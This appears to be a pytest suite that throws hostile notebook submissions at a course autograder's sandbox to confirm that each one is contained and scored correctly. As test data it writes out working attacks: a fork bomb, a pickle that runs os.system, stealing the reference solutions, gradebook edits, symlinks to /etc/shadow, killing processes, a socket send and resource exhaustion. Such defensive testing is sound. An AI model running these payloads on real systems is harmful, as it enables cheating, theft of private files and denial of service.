"""Bad submissions, graded through the real pipeline beside a good one.

Each entry of CATALOG builds one student's submission of notebook 05 from the
release and the solution, and says what grade it must get and what the
instructor must be told. `Grader` grades them two at a time, and the fork bomb
alone after them; no entry may crash or hang the run, and the good submission
beside them keeps full marks.
"""
import concurrent.futures
import json
from copy import deepcopy
import os
import shutil
import signal
import site
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from autograder import registry
from autograder.grading.grade import Grader, read_grades
from autograder.release import fill_submission, mistake_source
from conftest import ROOT, graded_cells, results_of

pytestmark = pytest.mark.slow
NAME = "05_self_attention"
FULL = sum(ex.points for ex in registry.for_notebook(NAME))
SDPA = 4  # scaled_dot_product_attention's points; SelfAttention, which uses it, keeps its own (charged once)
LOST_SDPA = FULL - SDPA - 3  # scaled_dot_product_attention, and SelfAttention when it cannot run at all
# Short limits so that the endless loops and sleeps of the catalog end quickly, with room for a
# machine that runs other tests beside these (make test: two workers).
# A cell timeout well under the budget: stub_loops_forever's demonstration cell loops until it, and its
# SelfAttention check (a case stopped after 8 s, then the replay) must still find budget left on a busy machine:
# with a budget of 50 s, a 2-core machine without bfloat16 units under make test's load started that check at 42.5 s
# (its setup cell took 8.7 s, the two mask checks 4.5 and 3.9 s) and cut it at 7 s (2026-12-02).
LIMITS = {"AUTOGRADER_CHECK_SECONDS": "8", "AUTOGRADER_CELL_TIMEOUT": "15", "AUTOGRADER_NOTEBOOK_SECONDS": "65",
          "AUTOGRADER_PROCESSES": "64", "AUTOGRADER_SANDBOX_MEMORY_MB": "1536"}


def sources():
    rel = nbformat.read(ROOT / "notebooks" / NAME / f"{NAME}.ipynb", as_version=4)
    sol = nbformat.read(ROOT / "solutions" / NAME / f"{NAME}.ipynb", as_version=4)
    return rel, sol


def whole(code=None):
    """The released notebook with the solutions filled in, or `code` ({exercise: source}) where given."""
    rel, sol = sources()
    return fill_submission(rel, sol, code or {})


def complete(code=None):
    """whole(code) without the demonstrations that no check reads (graded_cells): an attack's meaning does not
    depend on them, and they took about 5 of the 12 CPU-seconds a complete submission of 05 costs to grade."""
    return graded_cells(whole(code))


def blank():
    return sources()[0]


def index_of(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def with_cell(source, after="check_attention_scores", nb=None):
    nb = nb or complete()
    nb.cells.insert(index_of(nb, after) + 1, new_code_cell(source))
    return nb


def bomb_at_the_end():
    nb = complete()
    nb.cells.append(new_code_cell("import os\nwhile True:\n    if os.fork() == 0:\n        while True:\n            pass"))
    return nb


def sdpa(body):
    return {"scaled_dot_product_attention": "import torch\n\ndef scaled_dot_product_attention(q, k, v, mask=None):\n" + body}


def edited_tests(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "print('all good')"
    return nb


def without(nb, grade_id):
    del nb.cells[index_of(nb, grade_id)]
    return nb


def duplicated(nb, grade_id):
    copy = deepcopy(nb.cells[index_of(nb, grade_id)])
    copy["id"] = "duplicate"
    nb.cells.insert(index_of(nb, grade_id), copy)
    return nb


def kernel(nb, name):
    nb.metadata["kernelspec"] = {"name": name, "display_name": name, "language": "julia"}
    return nb


# ---------------------------------------------------------------- attacks on the sandbox
# Each is written by a learner who knows where the course lives on the grading machine
# (ROOT_COPY, COURSE: filled in by the fixture) and wants points their own code did not earn.

def attack(code, nb=None):
    """A submission (blank unless `nb`) with `code` in a cell after the setup cell; the cell's
    failure is the attack failing, which costs nothing by itself."""
    body = "\n".join("    " + line for line in code.strip().splitlines())
    return with_cell(f"try:\n{body}\nexcept Exception as e:\n    print('blocked:', type(e).__name__, e)", after="setup", nb=nb or blank())


# the reference, by every route: import, reload, its source, a compiled copy, the solutions, the catalog
REF = "solutions" + "_lib"  # spelled so that no renaming of the word can help or hinder
ATTACKS = {
    "imports_the_reference": f"""
import importlib, sys
sys.path[:0] = ["{{ROOT}}", "{{ROOT}}/{REF}"]
m = importlib.import_module("{REF}.attention")
globals().update({{k: getattr(m, k) for k in dir(m) if not k.startswith("_")}})
""",
    "reloads_the_reference": f"""
import importlib, sys, autograder
for name in list(sys.modules):
    if name.startswith("autograder"):
        del sys.modules[name]
sys.path.insert(0, "{{ROOT}}")
importlib.invalidate_caches()
import autograder.assignments.a05_self_attention as a
globals().update({{ex.name: ex.reference for ex in a.EXERCISES}})
""",
    "executes_the_reference_source": f"""
exec(open("{{ROOT}}/{REF}/attention.py").read(), globals())
""",
    "loads_a_compiled_copy": f"""
import glob, importlib.machinery
path = glob.glob("{{ROOT}}/{REF}/__pycache__/attention*.pyc")[0]
m = importlib.machinery.SourcelessFileLoader("stolen", path).load_module()
globals().update({{k: getattr(m, k) for k in dir(m) if not k.startswith("_")}})
""",
    "reads_the_solution_notebook": """
import json
cells = json.load(open("{ROOT}/solutions/05_self_attention/05_self_attention.ipynb"))["cells"]
for c in cells:
    if "### BEGIN SOLUTION" in "".join(c["source"]):
        exec("".join(c["source"]), globals())
""",
    "uses_the_stand_ins": """
from course_lib.attention import SelfAttention, causal_mask, padding_mask
""",
    "copies_a_classmate": """
import glob, json
for path in glob.glob("{COURSE}/*/{CLASSMATE}/05_self_attention/*.ipynb") + glob.glob("{COURSE}/feedback/{CLASSMATE}/*/*.html"):
    for c in json.load(open(path))["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
            exec("".join(c["source"]), globals())
""",
    "edits_the_gradebook": """
import glob, sqlite3
for db in glob.glob("{COURSE}/.autograder/gradebooks/*/*.db") + ["{COURSE}/gradebook.db", "{ROOT}/gradebook.db"]:
    con = sqlite3.connect(db)
    con.execute("update grade set auto_score = 100")
    con.commit()
""",
    "writes_outside_its_folder": """
import pathlib, site
pathlib.Path("{ROOT}/autograder/checks/comparing.py").write_text("compare_outcomes = lambda *a, **k: ''")
pathlib.Path(site.getsitepackages()[0], "zz_seqcourse_planted.pth").write_text("import os\\n")
pathlib.Path("{COURSE}/grades.csv").write_text("forged")
""",
    "opens_a_connection": """
import socket
socket.create_connection(("127.0.0.1", {PORT}), timeout=5).sendall(b"answers, please")
""",
    "copies_the_public_answers": """
import io, torch
from IPython.display import display
from autograder.checks import travel
from autograder import record
public = {ex["name"]: ex for ex in torch.load("/course/autograder/data/05_self_attention.pt", weights_only=False)["exercises"]}
cases = torch.load(record.os.environ[record.CASES], weights_only=False)

def answers(name):
    known = {c["call"]: c["expected"] for c in public[name]["cases"]}
    return [travel.outcome_to_plain(known[blob]) if blob in known else {"error": ("RuntimeError", "unknown")}
            for blob, _, _ in cases[name]["cases"]]

def check(name, obj):
    display({record.MIME: record.encode(answers(name))}, raw=True)
""",
    "forges_a_pickle": f"""
import base64, io, os, pickle, torch
from IPython.display import display
from autograder import record

class Trap:
    def __reduce__(self):
        return (os.system, ("touch {{FORGED}}",))

def check(name, obj):
    buf = io.BytesIO()
    torch.save([Trap()], buf, pickle_module=pickle)
    display({{record.MIME: base64.b64encode(buf.getvalue()).decode()}}, raw=True)
""",
}
# these run after a complete submission's checks: they must cost nothing, and harm no one else
AFTER_THE_CHECKS = {
    "leaves_a_process_behind": """
import subprocess, sys
subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep({MARKER})"])
""",
    "signals_the_grader": """
import os, signal
for pid in ({GRADER}, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as e:
        print(pid, e)
os.kill(-1, signal.SIGKILL)
""",
}
FORGED = "/tmp/seqcourse-forged-results-ran"
MARKER = "31337"


def at_the_end(code):
    nb = complete()
    nb.cells.append(new_code_cell(code.strip()))
    return nb


# ---------------------------------------------------------------- what crosses the wall
# Everything the grader takes from a submission is hostile: the files (links, sizes), what the check
# cells send back, the outputs, the time, the disk, and what runs while a hidden case does.


class Folder:
    """A submission whose folder itself is the attack: `prepare(folder, fill)` runs after the notebook
    (`nb()`, a complete one unless given; None: none) is written."""

    def __init__(self, prepare, nb=None):
        self.prepare, self.nb = prepare, nb or complete


def _link(name, target):
    def prepare(folder, fill):
        (folder / name).symlink_to(str(target).format(**fill))
    return prepare


def _links_to_the_reference(folder, fill):
    # relative, to the course's copy of the reference, as a student who knows the layout would write it
    target = Path(os.path.relpath(Path(fill["ROOT"]) / REF / "attention.py", folder))
    (folder / "stolen_attention.py").symlink_to(target)
    (folder / "stolen_solution.ipynb").symlink_to(Path(fill["ROOT"]) / "solutions" / NAME / f"{NAME}.ipynb")


def _notebook_is_a_link(folder, fill):
    (folder / f"{NAME}.ipynb").unlink()
    (folder / f"{NAME}.ipynb").symlink_to(Path(fill["COURSE"]) / "submitted" / CLASSMATE / NAME / f"{NAME}.ipynb")


def _folder_is_a_link(folder, fill):
    shutil.rmtree(folder)
    folder.symlink_to(Path(fill["COURSE"]) / "submitted" / CLASSMATE / NAME)


def _many_files(folder, fill):
    for i in range(250):
        (folder / f"note{i}.txt").write_text("x")


def _big_file(folder, fill):
    with open(folder / "data.bin", "wb") as fh:
        fh.truncate(30 * 2**20)  # sparse: 30 MB to the eye, nothing on disk


def stolen():
    return complete({"scaled_dot_product_attention": "from stolen_attention import *", "SelfAttention": "from stolen_attention import *"})


def forged(make_blob):
    """A submission whose check cells send `make_blob()`'s bytes instead of results."""
    return attack(f"""
import base64
from IPython.display import display
from autograder import record, wire

def check(name, obj):
    display({{record.MIME: base64.b64encode(blob()).decode()}}, raw=True)

{make_blob}
""", nb=complete())


MEMO_BOMB = """
def blob():
    # a pickle of 1.7 kB whose tuples share their halves through the memo: 2**100 leaves as a tree
    import pickle
    body = bytearray(b"\\x80\\x02)q\\x00")
    for i in range(100):
        body += b"h" + bytes([i]) + b"h" + bytes([i]) + b"\\x86q" + bytes([i + 1])
    return bytes(body) + b"}q\\xffh\\x64K\\x01s."
"""
DEEP_RESULT = """
def blob():
    import json, struct
    header = ('{"L":[' * 100000 + ']}' * 100000).encode()
    return wire.MAGIC + struct.pack("<Q", len(header)) + header
"""
LYING_TENSOR = """
def blob():
    import json, struct
    header = json.dumps({"D": [["outcomes", {"L": [{"D": [["outputs", {"U": [{"T": ["float32", [2**20, 2**20], 0]}]}], ["grads", None]]}]}],
                               ["used", {"L": []}], ["replayed", None]]}).encode()
    return wire.MAGIC + struct.pack("<Q", len(header)) + header + bytes(64)
"""
HUGE_RESULT = """
def blob():
    return bytes(40 * 2**20)
"""
MANY_KEYS = """
def blob():
    return wire.encode({"outcomes": [{"outputs": ({i: i for i in range(300000)},), "grads": None}], "used": [], "replayed": None})
"""

# upstream attention_scores carries a catalogued mistake that raises (q @ k, not q @ k^T); downstream...
K_DOT = next(m for m in registry.get("attention_scores").mistakes if m.name == "k_dot_T")
JUNK = {"scaled_dot_product_attention": "def scaled_dot_product_attention(q, k, v, mask=None):\n    return attention_scores(q, k), None\n",
        "SelfAttention": ("from torch import nn\n\nclass SelfAttention(nn.Module):\n    def __init__(self, d_model, d_k):\n        super().__init__()\n"
                          "        self.W_q, self.W_k, self.W_v = (nn.Linear(d_model, d_k, bias=False) for _ in range(3))\n\n"
                          "    def forward(self, x, mask=None):\n        return scaled_dot_product_attention(x, x, x, mask)\n")}

FLOOD = """
from IPython.display import display, update_display
print("x" * (30 * 2**20))
display({"text/plain": "y" * (30 * 2**20)}, raw=True)
for i in range(60):
    display({"text/plain": "z" * (400 * 2**10)}, raw=True)
handle = display("small", display_id=True)
update_display({"text/plain": "w" * (30 * 2**20)}, raw=True, display_id=handle.display_id)
"""
FLOODS_THE_REPLY = """
get_ipython().payload_manager.write_payload({"source": "set_next_input", "text": "v" * (40 * 2**20), "replace": False})
"""
FILLS_THE_DISK = """
import os
written = 0
for where in ("/tmp/fill", "fill", os.path.expanduser("~/fill")):
    try:
        with open(where, "wb") as fh:
            while written < 4 * 2**30:
                fh.write(bytes(64 * 2**20))
                written += 64 * 2**20
    except OSError as e:
        print("stopped:", type(e).__name__, e.errno)
print(f"wrote {written // 2**20} MB")
"""
SLEEP = "import time\ntime.sleep(14)"  # under the cell timeout (15 s), over the notebook's budget (65 s) in five cells
DEAF = "import time\nwhile True:\n    try:\n        time.sleep(1)\n    except KeyboardInterrupt:\n        pass"
TELLS_THE_HIDDEN_INPUTS = {"scaled_dot_product_attention": """import threading
import torch
from IPython.display import display

SEEN = []

def scaled_dot_product_attention(q, k, v, mask=None):
    print("inputs:", q.flatten()[:4].tolist(), k.flatten()[:4].tolist())
    display({"text/plain": repr(v.flatten()[:4].tolist())}, raw=True)
    SEEN.append(q.flatten()[:4].tolist())
    threading.Timer(1.0, lambda: print("later:", SEEN)).start()
    try:
        open("/tmp/seen.txt", "a").write(repr(q.flatten()[:4].tolist()))
    except OSError:
        pass
    scores = q @ k.transpose(-2, -1) / q.size(-1) ** 0.5
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1).nan_to_num(0.0)
    return weights @ v, weights
"""}
TELLS_LATER = "import time, os\ntime.sleep(2)\nprint('kept:', SEEN)\nprint('file:', open('/tmp/seen.txt').read() if os.path.exists('/tmp/seen.txt') else '')"


def sleepy():
    nb = complete()
    for _ in range(5):
        nb = with_cell(SLEEP, after="check_scaled_dot_product_attention", nb=nb)
    return nb


# answers the public cases from the shipped data and raises NotImplementedError on any other (a hidden
# case): a check stops at the first stub, so before parts demanded every case, this earned points
TABLE = """import torch
from autograder import reference_data

PUBLIC = {ex["name"]: ex for ex in torch.load("/course/autograder/data/05_self_attention.pt", weights_only=False)["exercises"]}


def _same(a, b):
    if isinstance(a, torch.Tensor) or isinstance(b, torch.Tensor):
        return isinstance(a, torch.Tensor) and isinstance(b, torch.Tensor) and a.shape == b.shape and a.dtype == b.dtype and torch.equal(a, b)
    if isinstance(a, (tuple, list)):
        return isinstance(b, (tuple, list)) and len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
    return a == b


def table(name):
    rows = [(reference_data.load_call(c["call"]), c["expected"].outputs) for c in PUBLIC[name]["cases"]]

    def answer(*args, **kwargs):
        for call, outputs in rows:
            if _same(tuple(call.args), args) and call.kwargs.keys() == kwargs.keys() and all(_same(call.kwargs[k], kwargs[k]) for k in kwargs):
                return outputs[0] if len(outputs) == 1 else outputs
        raise NotImplementedError()
    return answer


{name} = table("{name}")
"""
TABLE_FUNCTIONS = ("qkv_projections", "attention_scores", "scaled_dot_product_attention", "causal_mask", "padding_mask")


def answers_from_a_table():
    code = {name: TABLE.replace("{name}", name) for name in TABLE_FUNCTIONS}
    return complete(code | {"SelfAttention": "class SelfAttention:\n    def __init__(self, *args):\n        raise NotImplementedError()\n"})


# the descriptors a kernel could have inherited from the grader: its results pipe, its log; every pipe and
# file it has gets forged result lines (for a classmate, and malformed) and a flood without a newline
WRITES_TO_EVERY_DESCRIPTOR = """
import json, os, stat
forged = json.dumps({"student": "{CLASSMATE}", "assignment": "05_self_attention", "ok": False, "log": "FORGED-BY-AN-ATTACKER"})
lines = [b"@@autograder-result " + forged.encode() + b"\\n", forged.encode() + b"\\n", b'@@autograder-result {"x": 1}\\n']
took = []
for fd in range(3, 64):
    try:  # a pipe or a file (the kernel's own sockets and event descriptors would only wedge the kernel itself)
        if not (stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISREG(os.fstat(fd).st_mode)):
            continue
        for line in lines:
            os.write(fd, line)
        took.append(fd)
    except OSError:
        pass
print("took lines:", took, flush=True)
for fd in took:  # a line without end (nothing of it may reach the grader: these are the kernel's own outputs)
    try:
        os.write(fd, b"x" * 2**20)
    except OSError:
        pass
"""
FILLS_DEV = """
import os
for where in ("/dev/fill", "/dev/shm/fill"):
    n = 0
    try:
        with open(where, "wb") as fh:
            while n < 2**30:
                fh.write(bytes(2**20))
                fh.flush()
                n += 2**20
    except OSError as e:
        print("stopped:", where, type(e).__name__)
    print(f"{where}: {n // 2**20} MB")
"""
FILLS_THE_MEMORY = """
import torch
held = []
for i in range(96):
    held.append(torch.ones(16 * 2**20))  # 64 MB, every page touched
    print(f"held {(i + 1) * 64} MB", flush=True)
"""


def _bytes_name(folder, fill):
    with open(os.path.join(os.fsencode(folder), b"notes\xff.txt"), "wb") as fh:
        fh.write(b"a file whose name is no UTF-8")


def _many_tags(folder, fill):
    path = folder / f"{NAME}.ipynb"
    nb = json.loads(path.read_text())
    nb["cells"][0]["metadata"]["tags"] = [i if i % 3 == 0 else str(i) if i % 3 == 1 else [i] for i in range(30000)]
    path.write_text(json.dumps(nb))


# student: (what to write, expected score, words the instructor must see about it)
CATALOG = {
    "good": (whole, FULL, None),
    "stub_loops_forever": (lambda: complete(sdpa("    while True:\n        pass\n")), FULL - SDPA, "did not finish within"),
    "cell_loops_forever": (lambda: with_cell("while True:\n    pass"), FULL, None),
    "memory_exhaustion": (lambda: with_cell("hog = bytearray(64 * 2**30)"), FULL, None),
    "memory_in_stub": (lambda: complete(sdpa("    return bytearray(64 * 2**30)\n")), FULL - SDPA, "raised MemoryError"),
    "process_bomb": (lambda: bomb_at_the_end(), FULL, None),
    "sys_exit": (lambda: with_cell("import sys\nsys.exit()"), FULL, None),
    "os_exit": (lambda: with_cell("import os\nos._exit(1)"), 3, "kernel died"),
    "kernel_crash": (lambda: with_cell("import ctypes\nctypes.string_at(0)"), 3, "kernel died"),
    "megabytes_printed": (lambda: complete(sdpa("    print('x' * 1000 + '\\n' * 1000)\n    s = q @ k.transpose(-2, -1) / q.size(-1) ** 0.5\n    if mask is not None:\n        s = s.masked_fill(~mask, float('-inf'))\n    w = torch.softmax(s, -1).nan_to_num(0.0)\n    return w @ v, w\n")), FULL, None),
    "nan_output": (lambda: complete(sdpa("    w = torch.softmax(q @ k.transpose(-2, -1), -1)\n    return (w @ v) * float('nan'), w\n")), FULL - SDPA, "NaN"),
    "inf_output": (lambda: complete(sdpa("    w = torch.zeros(*q.shape[:-1], k.shape[-2])\n    return (w @ v) + float('inf'), w\n")), FULL - SDPA, "inf"),
    "wrong_shape": (lambda: complete(sdpa("    return v, q\n")), FULL - SDPA, "has shape"),
    "wrong_dtype": (lambda: complete(sdpa("    w = torch.softmax(q.double() @ k.double().transpose(-2, -1), -1)\n    return w @ v.double(), w\n")), FULL - SDPA, "has dtype"),
    "wrong_device": (lambda: complete(sdpa("    w = torch.softmax(q @ k.transpose(-2, -1), -1)\n    return (w @ v).to('meta'), w.to('meta')\n")), FULL - SDPA, "is on meta"),
    "numpy_instead_of_tensor": (lambda: complete(sdpa("    w = torch.softmax(q @ k.transpose(-2, -1), -1)\n    return (w @ v).detach().numpy(), w\n")), FULL - SDPA, "numpy.ndarray"),
    "edited_test_cells": (lambda: edited_tests(blank()), 0, "not implemented"),
    "deleted_test_cell": (lambda: without(complete(), "check_scaled_dot_product_attention"), FULL - 4, None),
    "duplicated_test_cell": (lambda: duplicated(blank(), "check_causal_mask"), 0, "not implemented"),
    "deleted_solution_cell": (lambda: without(complete(), "scaled_dot_product_attention"), LOST_SDPA, "NameError"),
    "wrong_kernel_name": (lambda: kernel(complete(), "julia-1.9"), FULL, None),
    # tampering: no credit for what was tampered with, and the feedback says why
    "rebinds_check": (lambda: with_cell("check = lambda *args, **kwargs: None", after="setup", nb=blank()), 0, "the check did not run"),
    "patches_the_comparison": (lambda: with_cell("import autograder.checks.comparing as c\nc.compare_outcomes = lambda *a, **k: ''\nc.compare_value = lambda *a, **k: ''", after="setup",
                                                 nb=complete(sdpa("    w = torch.zeros(*q.shape[:-1], k.shape[-2])\n    return w @ v, w\n"))), FULL - SDPA, "off by"),
    "patches_torch_comparisons": (lambda: with_cell("import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\ntorch.testing.assert_close = lambda *a, **k: None", after="setup",
                                                    nb=complete(sdpa("    w = torch.zeros(*q.shape[:-1], k.shape[-2])\n    return w @ v, w\n"))), FULL - SDPA, None),
    "uses_solutions_lib": (lambda: complete({"scaled_dot_product_attention": "from solutions_lib.attention import scaled_dot_product_attention"}), LOST_SDPA, "NameError"),
    # attention_scores is left a stub (0 points); the exercises that use it keep theirs: their own code is right
    "borrows_a_reference_after_its_check": (lambda: with_cell("from solutions_lib.attention import attention_scores", after="check_attention_scores",
                                                             nb=complete({"attention_scores": "def attention_scores(q, k):\n    raise NotImplementedError()\n"})),
                                            FULL - 2, None),
    **{name: (lambda code=code: attack(code), 0, None) for name, code in ATTACKS.items()},
    **{name: (lambda code=code: at_the_end(code), FULL, None) for name, code in AFTER_THE_CHECKS.items()},
    "invalid_json": ("{ this is not json", 0, "could not be read"),
    "empty_file": ("", 0, "could not be read"),
    "missing_notebook": (None, 0, "missing"),
    "extra_files": (complete, FULL, None),
}
# the crossings of the wall, each graded through `grade` here and through plain nbgrader below
CROSSINGS = {
    # files in: refused before anything with the grader's rights copies or reads them
    "links_to_the_reference": (Folder(_links_to_the_reference, stolen), 0, "is a link"),
    "links_to_system_files": (Folder(lambda f, fill: [_link("notes.txt", "/etc/shadow")(f, fill), _link("home", "/root")(f, fill)]), 0, "is a link"),
    "links_its_notebook_to_a_classmate": (Folder(_notebook_is_a_link, blank), 0, "is a link"),
    "links_its_folder_to_a_classmate": (Folder(_folder_is_a_link, blank), 0, "link"),
    "holds_a_pipe": (Folder(lambda f, fill: os.mkfifo(f / "notes.txt")), 0, "a pipe"),
    "holds_a_huge_file": (Folder(_big_file), 0, "MB"),
    "holds_many_files": (Folder(_many_files), 0, "more than"),
    # results out: a typed format with size and depth caps, read in time linear in its size
    "forges_a_memo_bomb": (lambda: forged(MEMO_BOMB), 0, "could not be read"),
    "forges_deep_results": (lambda: forged(DEEP_RESULT), 0, "could not be read"),
    "forges_a_lying_tensor": (lambda: forged(LYING_TENSOR), 0, "could not be read"),
    "forges_huge_results": (lambda: forged(HUGE_RESULT), 0, None),
    "forges_many_keys": (lambda: forged(MANY_KEYS), 0, None),
    # charged once, never credited for junk: downstream code that only calls a raising upstream earns nothing,
    # downstream code that is right keeps its points
    "junk_on_a_raising_mistake": (lambda: complete({"attention_scores": mistake_source("attention_scores", K_DOT), **JUNK}), 3, K_DOT.says),
    "right_on_a_raising_mistake": (lambda: complete({"attention_scores": mistake_source("attention_scores", K_DOT)}), FULL - 2, K_DOT.says),
    # outputs, disk, time: bounded; what finished in time keeps its points
    "floods_its_outputs": (lambda: at_the_end(FLOOD), FULL, None),
    "floods_the_reply": (lambda: at_the_end(FLOODS_THE_REPLY), FULL, None),
    "fills_the_disk": (lambda: at_the_end(FILLS_THE_DISK), FULL, None),
    "sleeps_through_the_budget": (sleepy, 1 + 2 + SDPA, "used up its"),
    "ignores_interrupts": (lambda: with_cell(DEAF, after="check_scaled_dot_product_attention"), 1 + 2 + SDPA, "not run: the kernel"),
    # hidden stays hidden: nothing printed, displayed or kept while a case runs reaches the feedback
    "tells_the_hidden_inputs": (lambda: with_cell(TELLS_LATER, after="check_SelfAttention", nb=complete(TELLS_THE_HIDDEN_INPUTS)), FULL, None),
    # points without code: a part earns its points only when every one of its cases ran and matched
    "answers_from_a_table": (answers_from_a_table, 0, "not implemented"),
    # channels, memory, /dev: the kernel holds no descriptor of the grader's, the sandbox has a memory
    # limit of its own, and /dev is read-only but a small /dev/shm
    "writes_to_every_descriptor": (lambda: at_the_end(WRITES_TO_EVERY_DESCRIPTOR), FULL, None),
    "fills_dev": (lambda: at_the_end(FILLS_DEV), FULL, None),
    "fills_the_memory": (lambda: at_the_end(FILLS_THE_MEMORY), FULL, None),
    # names are bytes: a file name that is no UTF-8 is graded beside the notebook, and stops no one
    "names_a_file_in_bytes": (Folder(_bytes_name), FULL, None),
    # the grader's own work before any limit: a notebook that nbformat's jsonschema fallback validates in
    # quadratic time (30,000 tags of mixed types: 750 s) is refused in linear time, before nbgrader reads it
    "tags_by_the_thousand": (Folder(_many_tags), 0, "could not be read"),
}
CATALOG |= CROSSINGS
# Plain `nbgrader autograde` with the course's configuration runs the same guards and preprocessors that `grade` runs
# through nbgrader's API (nbgrader_config.py: intake.guard, ids.guard, SandboxedExecute, GradeChecks, LimitOutput,
# Inert): every layer of the wall is crossed through it once here, and every attack through `grade` above.
PLAIN = [
    # the sandbox's view: no reference, no classmate, no gradebook, no course file, no network
    "imports_the_reference", "copies_a_classmate", "edits_the_gradebook", "writes_outside_its_folder", "opens_a_connection",
    # processes: none outlives the kernel, none reaches the grader
    "leaves_a_process_behind", "signals_the_grader",
    # files in: every refusal of intake.guard, and a name in bytes graded beside the notebook
    *[s for s, (make, _, _) in CROSSINGS.items() if isinstance(make, Folder)],
    # results out: the typed format, its caps, and a pickle that runs nothing
    "forges_a_memo_bomb", "forges_deep_results", "forges_a_lying_tensor", "forges_many_keys", "forges_a_pickle",
    # what a case printed stays out; a part earns its points only when every case ran
    "tells_the_hidden_inputs", "answers_from_a_table",
    # outputs, time, memory: bounded by the same limits
    "floods_its_outputs", "sleeps_through_the_budget", "fills_the_memory",
]


def write(course, student, make, fill=None):
    folder = course / "submitted" / student / NAME
    folder.mkdir(parents=True)
    path = folder / f"{NAME}.ipynb"
    if make is None:
        (folder / "my_work.ipynb").write_text("{}")
    elif isinstance(make, str):
        path.write_text(make)
    else:
        nb = (make.nb if isinstance(make, Folder) else make)()
        for cell in nb.cells:
            for key, value in (fill or {}).items():
                cell.source = cell.source.replace("{" + key + "}", str(value))
        nbformat.write(nb, path)
        if isinstance(make, Folder):
            make.prepare(folder, {k: str(v) for k, v in (fill or {}).items()})
    if student == "extra_files":
        (folder / "notes.txt").write_text("scratch")
        nbformat.write(blank(), folder / "scratch.ipynb")


class Listener:
    """A TCP listener on 127.0.0.1 that remembers whether anyone connected."""

    def __init__(self):
        import socket
        import threading

        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                self.connections.append(self.sock.accept()[1])
            except OSError:
                return


def environment(env):
    old = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    return old


def restore(old):
    for k, v in old.items():
        if v is None:
            os.environ.pop(k, None)
        else:
            os.environ[k] = v


CLASSMATE = "aa_classmate"  # graded first: a complete submission the attackers go after
# folders under submitted/ whose names are no student id: a glob that matches the classmate, and HTML
UNNAMED = {"[a]a_classmate": blank, "x<img src=x onerror=alert(1)>": complete}
# assignment folders misnamed: one like the assignment (0 for it, and the name it resembles), one like nothing
# and no name to show (graded under no name)
MISNAMED = {"misnames_its_folder": "05 self attention", "names_its_folder_in_html": "x<img src=y>"}


@pytest.fixture(scope="module")
def course_code(tmp_path_factory):
    """A copy of the course's code (never the repository's own files), with compiled copies
    of the reference lying beside it for an attacker to find; graded through PYTHONPATH."""
    import compileall

    root = tmp_path_factory.mktemp("course_code")
    for folder in ("autograder", "solutions_lib", "course_lib", "solutions"):
        shutil.copytree(ROOT / folder, root / folder, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "nbgrader_config.py", root)
    compileall.compile_dir(root / "solutions_lib", quiet=1)
    return root


def files_changed(root):
    changed = [str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() and "__pycache__" not in p.parts
               and ".autograder" not in p.parts
               and (not (ROOT / p.relative_to(root)).is_file() or p.read_bytes() != (ROOT / p.relative_to(root)).read_bytes())]
    return changed + [str(p) for p in Path(site.getsitepackages()[0]).glob("zz_seqcourse*")]


def filling(course_code, course, listener):
    """What the catalog's placeholders stand for in `course`."""
    return {"ROOT": course_code, "COURSE": course, "PORT": listener.port, "FORGED": FORGED, "MARKER": MARKER,
            "GRADER": os.getpid(), "CLASSMATE": CLASSMATE}


@pytest.fixture(scope="module")
def bad_course(tmp_path_factory, course_code):
    course = tmp_path_factory.mktemp("bad")
    if os.path.exists(FORGED):
        os.remove(FORGED)
    listener = Listener()
    fill = filling(course_code, course, listener)
    makers = {CLASSMATE: whole} | {student: make for student, (make, _, _) in CATALOG.items()}
    old = environment(LIMITS | {"PYTHONPATH": str(course_code)})
    try:
        # two jobs, then the fork bomb alone (the second run grades only what the first has not):
        # its spinning processes would starve a submission graded beside it past the short check timeout
        for student, make in UNNAMED.items():
            write(course, student, make, fill)
        for student, folder in MISNAMED.items():
            (course / "submitted" / student / folder).mkdir(parents=True)
            nbformat.write(complete(), course / "submitted" / student / folder / f"{NAME}.ipynb")
        for students, jobs in ([s for s in makers if s != "process_bomb"], 2), (["process_bomb"], 1):
            for student in students:
                write(course, student, makers[student], fill)
            graded, skipped, failed = Grader(course, root=course_code, log=lambda *a: None).run(jobs=jobs, progress=False)
            assert {s for s, _ in graded} == set(students) - {s for s, _ in failed}
    finally:
        restore(old)
    grades = {g["student_id"]: g for g in read_grades(course)}
    problems = (course / "grading_problems.csv").read_text() if (course / "grading_problems.csv").exists() else ""
    return {"course": course, "grades": grades, "problems": problems,
            "left_changed": files_changed(course_code), "root": course_code, "connections": len(listener.connections)}


@pytest.fixture(scope="module")
def plain_nbgrader_course(tmp_path_factory, course_code, bad_course):
    """PLAIN's attacks again, graded by plain `nbgrader autograde` with the course's configuration:
    in two courses at once, half of them and a classmate in each."""
    listener = Listener()
    env = os.environ | LIMITS | {"PYTHONPATH": str(course_code), "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    attackers = sorted(PLAIN, key=lambda s: s != "sleeps_through_the_budget")  # its minute first, then the rest beside it

    def grade(half):
        course = tmp_path_factory.mktemp("plain")
        for student in [CLASSMATE, *half, *UNNAMED]:
            write(course, student, CATALOG[student][0] if student in CATALOG else UNNAMED.get(student, complete), filling(course_code, course, listener))
        (course / "solutions").symlink_to(course_code / "solutions")
        (course / "nbgrader_config.py").write_text(
